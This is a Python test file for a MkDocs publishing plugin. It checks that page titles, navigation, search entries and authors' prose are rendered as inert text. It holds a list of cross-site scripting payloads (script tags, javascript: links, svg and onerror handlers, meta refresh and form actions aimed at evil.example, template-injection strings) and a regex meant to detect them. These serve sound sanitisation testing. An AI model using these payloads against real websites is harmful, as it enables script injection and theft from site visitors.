"""Within MkDocs: names, navigation, search and authors' prose hold whatever was typed, as text."""

from __future__ import annotations

import json
import re
from html import unescape
from typing import TYPE_CHECKING, Any

import pytest

from living_sla.publishing import build_site

if TYPE_CHECKING:
    from pathlib import Path

MKDOCS = """
site_name: Acme
docs_dir: agreement
theme: {name: material, font: false, features: [navigation.tabs]}
plugins: [search, living-sla]
markdown_extensions: [tables, attr_list, md_in_html, admonition, toc: {permalink: true}]
"""
TITLE = "<script>alert(1)</script> & {{ 7*7 }} &lt;b&gt; </title>"


def built(project: Path, mkdocs: str = MKDOCS, **prose: str) -> Path:
    (project / "mkdocs.yml").write_text(mkdocs)
    for name, text in prose.items():
        (project / "agreement" / "acme" / f"{name}.md").write_text(text)
    return build_site(project, as_of=None, site_dir=None, strict=False)


def page(site: Path, path: str) -> str:
    return (site / path / "index.html").read_text(encoding="utf-8")


def only(pattern: str, text: str) -> str:
    (found,) = re.findall(pattern, text, re.DOTALL)
    return unescape(str(found)).strip()


def article(html: str) -> str:
    """What a page says of its own: Material's article."""
    return only(r'<article class="md-content__inner md-typeset">(.*?)</article>', html)


def tabs(html: str) -> list[tuple[str, str]]:
    """The navigation: every name and where it leads."""
    found = re.findall(r'<a href="([^"]+)" class="md-tabs__link">(.*?)</a>', html, re.DOTALL)
    return [(unescape(name).strip(), target) for target, name in found]


def entries(site: Path) -> list[dict[str, Any]]:
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    return list(index["docs"])


@pytest.fixture
def titled(project: Path) -> Path:
    """The site of an agreement whose title holds markup."""
    terms = project / "agreement" / "acme" / "agreement.yml"
    terms.write_text(terms.read_text().replace("title: Acme", f'title: "{TITLE}"'))
    return built(project)


# --- titles


def test_a_title_is_text_in_title_header_navigation_and_search(titled: Path) -> None:
    html = page(titled, "acme")
    assert "<script>alert" not in html
    assert only("<title>(.*?)</title>", html) == f"{TITLE} - Acme"
    assert only("<h1>(.*?)</h1>", html) == TITLE
    assert (TITLE, "./") in tabs(html)
    assert [unescape(entry["title"]) for entry in entries(titled) if entry["location"] == "acme/"] == [TITLE]


def test_a_description_is_text(titled: Path) -> None:
    description = only('<meta name="description" content="(.*?)">', page(titled, "acme/agreement"))
    assert description == f"{TITLE}, version 1.0.0, in full."


# --- search


def test_search_has_one_short_entry_a_page_and_no_body(project: Path) -> None:
    found = {entry["location"]: (entry["title"], entry["text"]) for entry in entries(built(project))}
    reports = ["acme/reports/", "acme/reports/2026-01/", "acme/reports/scorecard/"]
    assert sorted(location for location in found if "reports" in location) == reports
    assert len(found) == 1 + 1 + 2 + 6 + len(reports) + 1 + 2 + 1
    assert found["acme/marketing/"] == (
        "Marketing: our commitments",
        "<p>What Marketing promised in Acme, and how far it is kept.</p>",
    )
    assert max(len(text) for _, text in found.values()) < 200


# --- retrospectives


def test_a_retrospective_is_part_of_its_report_and_no_page_of_its_own(project: Path) -> None:
    (project / "agreement" / "acme" / "reports").mkdir()
    text = "# Retrospective\n\n## What broke one\n\nWe <b>counted</b> twice.\n"
    (project / "agreement" / "acme" / "reports" / "2026-01.md").write_text(text)
    site = built(project)
    html = (site / "acme" / "reports" / "2026-01" / "index.html").read_text()
    assert "<h3>What broke one</h3>" in html
    assert "We &lt;b&gt;counted&lt;/b&gt; twice." in html
    assert "# Retrospective" not in html
    assert sorted(path.name for path in (site / "acme" / "reports").iterdir()) == [
        "2026-01", "index.html", "scorecard",
    ]  # fmt: skip
    assert "counted" not in (site / "search" / "search_index.json").read_text()


def test_a_picture_beside_the_retrospectives_is_published(project: Path) -> None:
    (project / "agreement" / "acme" / "reports").mkdir()
    (project / "agreement" / "acme" / "reports" / "board.png").write_bytes(b"x")
    assert (built(project) / "acme" / "reports" / "board.png").is_file()


# --- navigation


def test_the_navigation_is_the_scoreboard_the_agreements_and_the_prose(project: Path) -> None:
    site = built(project, escalation="# Who decides\n\nTalk first.\n")
    assert tabs(page(site, "acme/data")) == [
        ("Scoreboard", "../.."), ("Acme", "../"), ("Who decides", "../escalation/"),
    ]  # fmt: skip


def test_a_navigation_of_ones_own_is_kept(project: Path) -> None:
    nav = "nav:\n- Start: index.md\n- More:\n  - acme/index.md\n  - How we talk: acme/escalation.md\n"
    site = built(project, MKDOCS + nav, escalation="# Who decides\n")
    assert [name for name, _ in tabs(page(site, ""))] == ["Scoreboard", "More"]
    assert "How we talk" in page(site, "acme/escalation")


# --- prose

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "javascript link": "[x](javascript:alert(1))",
    "encoded link": '<a href="java&#115;cript:alert(1)">x</a>',
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "svg": '<svg onload="alert(1)"><animate onbegin="alert(1)"/></svg>',
    "details": '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
    "attribute list": 'text\n{ onclick="alert(1)" style="position:fixed" }',
    "heading's attributes": '## Head { onmouseover="alert(1)" }',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example"><input name="q"><button>x</button></form>',
    "style": "<style>@import url(https://evil.example)</style>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "image of another site": "![x](https://evil.example/x.png) <img src=//evil.example/y.png>",
    "clobbering": '<a id="__config">x</a>',
    "cover": '<div class="md-overlay" style="position:fixed">x</div>',
    "title of an admonition": '!!! note "<img src=x onerror=alert(1)>"\n    text',
    "table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
}
RUNS = re.compile(
    r"<(script|style|iframe|object|embed|form|input|button|meta|base|svg|animate|link)\b|<[^>]* on[a-z]+="
    r"|<[^>]* style=|javascript:|data:text|evil\.example|__config|md-overlay|<!--",
    re.IGNORECASE,
)


def test_prose_cannot_run_cover_the_page_or_call_out(project: Path) -> None:
    pages = {f"page-{n}": f"# Page {n}\n\n{text}\n" for n, text in enumerate(HOSTILE.values())}
    site = built(project, **pages)
    found = {
        name: RUNS.findall(re.findall(r'<article class="md-content.*?</article>', html, re.DOTALL)[0])
        for name, path in zip(HOSTILE, pages, strict=True)
        for html in [page(site, f"acme/{path}")]
    }
    assert {name: what for name, what in found.items() if what} == {}
    assert len(found) == len(HOSTILE)


def test_prose_keeps_what_readers_need(project: Path) -> None:
    text = (
        "# Talk\n\nA [link](https://example.com/a) and *words*.\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n![Plan](plan.png)\n"
    )
    (project / "agreement" / "acme" / "plan.png").write_bytes(b"")
    body = article(page(built(project, talk=text), "acme/talk"))
    assert '<a href="https://example.com/a" rel="noopener">link</a> and <em>words</em>' in body
    assert "<td>2</td>" in body
    assert '<img alt="Plan" src="../plan.png">' in body


def test_includes_and_templates_in_prose_stay_as_typed(project: Path) -> None:
    text = '# Talk\n\n{{ 7*7 }} {% raw %} --8<-- "mkdocs.yml"\n'
    body = article(page(built(project, talk=text), "acme/talk"))
    assert '{{ 7*7 }} {% raw %} --8<-- "mkdocs.yml"' in body


SCRIPT = "<script>alert(1)</script>"
HEADINGS = {
    "heading": ("# Talk &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n", f"Talk </title>{SCRIPT}"),
    "markup": ("# Talk <img src=x onerror=alert(1)> & *more*\n", "Talk & more"),
    "front matter": (f'---\ntitle: "{SCRIPT}"\n---\n# Talk\n', SCRIPT),
}


@pytest.mark.parametrize(("text", "title"), HEADINGS.values(), ids=HEADINGS)
def test_the_title_of_prose_is_text_everywhere(project: Path, text: str, title: str) -> None:
    site = built(project, talk=text)
    html = page(site, "acme/talk")
    assert "<script>alert" not in html
    assert "onerror" not in html
    assert only("<title>(.*?)</title>", html) == f"{title} - Acme"
    assert tabs(html)[-1] == (title, "./")
    assert [entry["title"] for entry in entries(site) if "<" in entry["title"]] == []


def test_a_files_name_is_text_too(project: Path) -> None:
    name = "<img src=x onerror=alert(1)>"
    site = built(project, **{name: "Nothing but words.\n"})
    assert "<img src=x" not in page(site, "").lower()


def test_front_matter_has_no_say_but_in_title_and_description(project: Path) -> None:
    matter = f"---\ntitle: 5\ndescription: '\">{SCRIPT}'\ntemplate: no.html\ntags: [1]\n---\n"
    html = page(built(project, talk=f"{matter}# Talk\n"), "acme/talk")
    assert only("<title>(.*?)</title>", html) == "5 - Acme"
    assert only('<meta name="description" content="(.*?)">', html) == f'">{SCRIPT}'
